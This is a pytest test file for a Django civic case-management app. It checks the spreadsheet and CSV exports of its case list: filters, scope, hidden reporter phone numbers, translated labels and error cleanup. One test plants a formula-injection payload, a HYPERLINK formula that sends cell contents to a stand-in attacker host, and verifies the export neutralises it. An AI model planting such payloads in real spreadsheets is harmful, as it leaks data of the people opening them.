"""The case list exports as it is filtered, in scope, without the reporter."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from civicgrid.cases.tests.fixtures import walk

from .fixtures import MONDAY
from .test_views import seeded

pytestmark = pytest.mark.django_db


def sheet(response) -> list[list]:
    rows = load_workbook(io.BytesIO(response.getvalue()), read_only=True).active.iter_rows(
        values_only=True
    )
    return [list(r) for r in rows]


def test_the_list_as_a_spreadsheet(client, loop):
    open_case = seeded(loop)
    closed = walk(seeded(loop), loop)
    client.force_login(loop.shift_lead)
    response = client.get(reverse("cases:export"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="cases.xlsx"'
    rows = sheet(response)
    assert rows[0][0] == "案件编号" and len(rows) == 3
    assert [r[0] for r in rows[1:]] == [closed.number, open_case.number]  # newest first
    flat = " ".join(str(v) for r in rows for v in r if v is not None)
    assert "13812345678" not in flat and "138****5678" not in flat and "王" not in rows[1]
    # filtered like the list, and as csv
    only_open = client.get(reverse("cases:export"), {"state": "open", "format": "csv"})
    text = b"".join(only_open.streaming_content).decode("utf-8-sig")
    assert open_case.number in text and closed.number not in text
    assert only_open["Content-Type"].startswith("text/csv")
    queue = sheet(client.get(reverse("cases:export"), {"queue": "shift_lead"}))
    assert [r[0] for r in queue[1:]] == [open_case.number]


def test_out_of_scope_cases_are_not_exported(client, loop):
    seeded(loop)
    client.force_login(loop.outsider)  # a supervisor of the other street's grid
    assert len(sheet(client.get(reverse("cases:export")))) == 1  # the header only
    client.logout()
    assert client.get(reverse("cases:export")).status_code == 302


def csv_rows(response) -> list[list]:
    import csv

    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def carded(loop):
    """Three open cases: one on time, one with a yellow card, one with a red card."""
    from civicgrid.cases.models import Case

    on_time, yellow, red = seeded(loop), seeded(loop), seeded(loop)
    Case.objects.filter(pk=yellow.pk).update(yellow_at=MONDAY)
    Case.objects.filter(pk=red.pk).update(yellow_at=MONDAY, red_at=MONDAY)
    return on_time, yellow, red


FILTERS = [
    {},
    {"state": "open"},
    {"card": "yellow"},
    {"card": "red"},
    {"card": "overdue"},
    {"q": "SQ"},
    {"case_class": "06010"},
    {"major": "06"},
    {"channel": "phone"},
    {"area": "310104"},
    {"tier": "community"},
    {"reported_from": "2020-01-01", "reported_to": "2099-12-31"},
    {"mine": "1"},
    {"due": "today"},
    {"queue": "shift_lead"},
    {"state": "nonsense", "reported_from": "not a date"},
]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cards_export_under_every_filter(client, loop, fmt):
    """A yellow or red card's label is a lazy translation: it used to reach openpyxl as such
    and answer 500 for every list that held a carded case."""
    carded(loop)
    client.force_login(loop.shift_lead)
    for params in FILTERS:
        response = client.get(reverse("cases:export"), {**params, "format": fmt})
        assert response.status_code == 200, params
        rows = sheet(response) if fmt == "xlsx" else csv_rows(response)
        assert rows[0][0] == "案件编号"
        if not params:
            assert {r[6] for r in rows[1:]} == {"黄牌", "红牌", None if fmt == "xlsx" else ""}


def test_a_formula_in_a_case_is_text_in_the_export(client, loop):
    from civicgrid.cases.models import Case

    case = seeded(loop)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Case.objects.filter(pk=case.pk).update(address=payload)
    client.force_login(loop.shift_lead)
    book = load_workbook(io.BytesIO(client.get(reverse("cases:export")).getvalue()))
    cells = [c for row in book.active.iter_rows() for c in row]
    address = next(c for c in cells if c.value == payload)
    assert address.data_type == "s" and address.quotePrefix
    assert not [c for c in cells if c.data_type == "f"]
    rows = csv_rows(client.get(reverse("cases:export"), {"format": "csv"}))
    assert rows[1][9] == "'" + payload


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_error_mid_export_leaves_no_cursor_or_transaction(client, loop, fmt, monkeypatch):
    from django.db import connection

    from civicgrid.cases import exports
    from civicgrid.cases.models import Case

    for _ in range(3):
        seeded(loop)
    real, calls = exports._moment, []

    class Unwritable:
        """A value the writer fails on, while the rows' cursor is open."""

        def __str__(self):
            raise RuntimeError("disk full")

    def failing(value, zone=None):
        calls.append(value)
        return Unwritable() if len(calls) == 4 else real(value, zone)  # the second row

    monkeypatch.setattr(exports, "_moment", failing)
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    client.force_login(loop.shift_lead)
    blocks = list(connection.atomic_blocks)  # the test's own transaction
    with pytest.raises((RuntimeError, TypeError, ValueError)):
        response = client.get(reverse("cases:export"), {"format": fmt})
        b"".join(response.streaming_content)  # csv: the error comes while streaming
    assert len(calls) == 6  # two rows read, the third not yet
    assert connection.atomic_blocks == blocks and not connection.needs_rollback
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors")
            assert cursor.fetchone()[0] == 0
    assert Case.objects.count() == 3  # the connection still works


def test_labels_are_the_models_own_in_the_users_language(client, loop):
    """The export translates each choice's labels once, not per row: they must still be the
    ones the case page shows (get_FOO_display), in the language of the request."""
    from django.utils import translation

    from civicgrid.cases.choices import Rating
    from civicgrid.cases.models import Case

    rated = walk(seeded(loop), loop)
    Case.objects.filter(pk=rated.pk).update(rating=Rating.DISSATISFIED)
    on_time, yellow, _red = carded(loop)
    client.force_login(loop.shift_lead)
    for language in ("zh-hans", "en"):
        with translation.override(language):
            rows = {
                r[0]: r
                for r in csv_rows(
                    client.get(
                        reverse("cases:export"), {"format": "csv"}, HTTP_ACCEPT_LANGUAGE=language
                    )
                )[1:]
            }
            for case in Case.objects.filter(pk__in=[rated.pk, on_time.pk, yellow.pk]):
                row = rows[case.number]
                assert row[3:6] == [
                    case.get_state_display(),
                    case.get_channel_display(),
                    case.get_priority_display(),
                ], language
                assert row[14] == case.get_rating_display()
            assert rows[yellow.number][6] == str(translation.gettext("Yellow card"))
            assert rows[on_time.number][6] == ""
    assert rows[rated.number][14] != "" and rows[rated.number][3] != rows[on_time.number][3]
